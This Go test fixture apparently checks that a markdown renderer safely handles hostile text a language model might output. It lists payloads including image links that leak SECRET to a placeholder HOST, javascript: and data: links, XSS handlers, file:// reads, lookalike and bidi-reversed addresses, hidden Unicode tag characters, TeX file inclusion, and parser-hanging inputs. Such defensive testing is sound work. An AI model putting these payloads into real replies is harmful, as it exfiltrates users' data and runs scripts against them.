package markdowntest

import (
	"strings"
)

// Replies returns texts that a model may write to leak data, to have something
// opened, to hide its meaning, or to hang a program.
func (g Guard) Replies() map[string]string {
	replies := map[string]string{}
	for name, text := range hostile {
		replies[name] = strings.NewReplacer("HOST", g.Host, "FILE", g.File).Replace(text)
	}
	for name, text := range Large(100_000) {
		replies[name] = text
	}
	return replies
}

var hostile = map[string]string{
	// Images that leak data.
	"image":                       "![x](http://HOST/p.png?leak=SECRET)",
	"image with a title":          `![x](http://HOST/p.png "title")`,
	"image in angle brackets":     "![x](<http://HOST/p png?leak=SECRET>)",
	"image by reference":          "![x][leak]\n\n[leak]: http://HOST/p.png?leak=SECRET",
	"image by collapsed label":    "![leak][]\n\n[leak]: http://HOST/p.png",
	"image by its own label":      "![leak]\n\n[leak]: http://HOST/p.png",
	"image in a link":             "[![x](http://HOST/p.png)](http://HOST/click)",
	"image in a heading":          "# ![x](http://HOST/p.png)",
	"image in a table":            "| a |\n|---|\n| ![x](http://HOST/p.png) |",
	"image in a list":             "- ![x](http://HOST/p.png)\n  - ![y](http://HOST/q.png)",
	"image in a quote":            "> ![x](http://HOST/p.png)",
	"image in a description":      "![![x](http://HOST/p.png)](http://HOST/q.png)",
	"image of a file":             "![x](file://FILE)",
	"image by path":               "![x](FILE)",
	"image of data":               "![x](data:image/png;base64,iVBORw0KGgo=)",
	"image of an SVG with script": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
	"image without a scheme":      "![x](//HOST/p.png)",
	"image in capitals":           "![x](HTTP://HOST/p.png)",
	"image with entities":         "![x](http&#58;//HOST/p.png)",
	"image with escapes":          `![x](http\://HOST/p.png)`,
	"image over two lines":        "![x\ny](http://HOST/p.png\n\"title\")",
	"HTML image":                  `<img src="http://HOST/p.png?leak=SECRET">`,
	"HTML image in text":          `before <img src=http://HOST/p.png onerror=alert(1)> after`,
	"HTML image of a file":        `<img src="file://FILE">`,
	"HTML picture with sources":   `<picture><source srcset="http://HOST/p.png 2x"></picture>`,
	"HTML style":                  `<style>@import url(http://HOST/s.css)</style>`,
	"HTML background":             `<div style="background:url(http://HOST/p.png)">x</div>`,
	"HTML link":                   `<link rel="stylesheet" href="http://HOST/s.css">`,
	"HTML script":                 "<script src=\"http://HOST/s.js\"></script>",
	"HTML frame":                  `<iframe src="http://HOST/"></iframe>`,
	"HTML object":                 `<object data="file://FILE"></object>`,
	"HTML video":                  `<video autoplay src="http://HOST/v.mp4" poster="http://HOST/p.png"></video>`,
	"HTML form":                   `<form action="http://HOST/"><input autofocus onfocus=submit()></form>`,
	"HTML refresh":                `<meta http-equiv="refresh" content="0;url=http://HOST/">`,
	"HTML base":                   `<base href="http://HOST/">[x](p)`,
	"HTML that is not closed":     "<div\n![x](http://HOST/p.png)",
	"HTML comment":                "<!-- ![x](http://HOST/p.png) -->\n\n<!--> ![x](http://HOST/p.png)",

	// Addresses that are not what they appear to be.
	"script as a link":             "[x](javascript:alert(1))",
	"script in capitals":           "[x](JaVaScRiPt:alert(1))",
	"script with a tab":            "[x](java&#9;script:alert(1))",
	"script in angle brackets":     "<javascript:alert(1)>",
	"data as a link":               "[x](data:text/html;base64,PHNjcmlwdD4=)",
	"file as a link":               "[x](file://FILE)",
	"path as a link":               "[x](FILE)",
	"Windows share":                `[x](\\\\HOST\share\a) [y](file://///HOST/share)`,
	"other programs":               "[x](ssh://HOST) [y](vscode://file/etc) [z](ms-msdt:/id) <smb://HOST/share>",
	"mail":                         "<a@b.example> [x](mailto:a@b.example?body=SECRET) a@b.example",
	"name before the host":         "[x](https://good.example@HOST/)",
	"backslash in the host":        `[x](https://good.example\@HOST/)`,
	"host of other letters":        "[x](https://аpple.example/)",
	"hidden letters in an address": "[x](https://good.example\u200b.evil.example/)",
	"address turned around":        "[x](https://good.example/\u202egnp.exe)",
	"text that is another address": "[https://good.example](http://HOST/)",
	"bare address":                 "http://HOST/?leak=SECRET and www.HOST/x and https://HOST:99999999/",
	"address in angle brackets":    "<http://HOST/?leak=SECRET>",
	"address over lines":           "<http://HO\nST/>",
	"no host":                      "[x](http:///p) [y](https:p) [z](http://)",
	"escapes in an address":        "[x](http://HOST/%0d%0aSet-Cookie:a) [y](http://%31%32%37.1/)",

	// Text that hides or reorders.
	"turned around":         "access \u202e\u2066// allowed\u2069\u2066 only\u2069",
	"hidden in code":        "```go\nif admin \u202e{ /* begin\u2066 */\u2069\n```\n`a\u200bb`",
	"tags":                  "fine\U000e0041\U000e0042\U000e0043",
	"selectors as data":     "x\ufe01\ufe02\U000e0101\U000e0102",
	"zero width":            "pass\u200bword\u200c \u200d\ufeff\u2060\u00ad",
	"controls":              "a\x00b\x1b[31mc\x07\x7f\u0085",
	"fillers":               "a\u3164\u115f\uffa0b",
	"not UTF-8":             "a\xff\xfe\xc0\x80\xed\xa0\x80 ![x](http://HOST/\xff)",
	"separators":            "a\u2028# b\u2029> c",
	"marks without end":     "Z" + strings.Repeat("\u0300", 2000),
	"language of a fence":   "```\u202ego\x00 `x`\n~~~" + strings.Repeat("x", 5000) + "\ncode\n```",
	"fence with an address": "```http://HOST/s.js\n![x](http://HOST/p.png)\n```",

	// Formulas that want something, or that hide text.
	"macros":              `\(\newcommand{\a}{\a\a}\a\) $\def\x{\x}\x$`,
	"formula with a file": `\(\input{FILE}\) $$\includegraphics{http://HOST/p.png}$$ \[\href{http://HOST/}{x=1}\]`,
	"hidden in a formula": "\\(x \u202e= 1\\) $a\u200b_1$ \\[\\text{\U000e0041}=1\\]",
	"half a formula":      "\\( x $y $$ \\[ z \\begin{align} a",

	// Malformed.
	"half an image":      "![x](http://HOST/p.png?leak=SECRET",
	"half a link":        "[x](http://HOST/ [y](",
	"half a reference":   "[x][y\n\n[y]: http://HOST/\n\n[z]:",
	"circular reference": "[a]: [a]\n\n[a][a][a]",
	"half a table":       "|a|b|\n|-|-|\n|c",
	"half a fence":       "```",
	"nothing":            "",
	"spaces":             " \t \n\n \t",
}

// Large are replies of about n bytes that make parsers slow or deep.
func Large(n int) map[string]string {
	of := func(part string) string { return strings.Repeat(part, n/len(part)) }
	half := func(part string) string { return strings.Repeat(part, n/2/len(part)) }
	third := func(part string) string { return strings.Repeat(part, n/3/len(part)) }
	return map[string]string{
		"one line":              of("lorem ipsum "),
		"one word":              of("x"),
		"ten thousand fences":   of("```go\n```\n"),
		"fences without end":    of("```\n"),
		"quotes":                of(">"),
		"quotes and lists":      of("> - ") + "x",
		"lists":                 of("- ") + "x",
		"numbers":               of("1. ") + "x",
		"brackets":              half("[") + half("]"),
		"links without end":     of("[a]("),
		"links in brackets":     of("[a](<b"),
		"images":                of("!["),
		"references":            "[a]: b\n\n" + of("[a] "),
		"long reference":        "[a]: " + half("b") + "\n\n" + half("[a] "),
		"definitions":           of("[a]: b \"\n"),
		"stars":                 half("*") + "a" + half("*"),
		"emphasis":              of("*a _"),
		"emphasis in words":     half("a**b") + half("c* "),
		"ticks":                 of("`a``b```c"),
		"tags without end":      of("<a "),
		"comments":              of("x<!-- "),
		"addresses":             of("http://a.b("),
		"mail addresses":        of("a@b.c_"),
		"wide table":            third("|a") + "\n" + third("|-") + "\n" + third("|b"),
		"table from little":     strings.Repeat("|a", 200) + "\n" + strings.Repeat("|-", 200) + "\n" + of("a\n"),
		"escaped bars":          "|a|b|\n|-|-|\n" + of("|`\\|`|x|\n"),
		"headings":              of("a\n===\n"),
		"spaces without end":    of(" ") + "a",
		"zero width throughout": of("\u200b\u200c"),
		"backslashes":           of("\\"),
		"ampersands":            of("&#x"),
		"formulas without end":  of("\\(a $b "),
		"displays without end":  of("\\[\n") + "\n\nx",
		"dollars":               of("$$a$ "),
		"formulas":              of("$x^2$ "),
		"long formula":          "$" + of("x+") + "1$",
		"deep formula":          "\\(" + half("{") + half("}") + "\\)",
		"roots":                 "\\[" + of("\\sqrt") + "x\\]",
		"environments":          of("\\begin{align}\n"),
	}
}
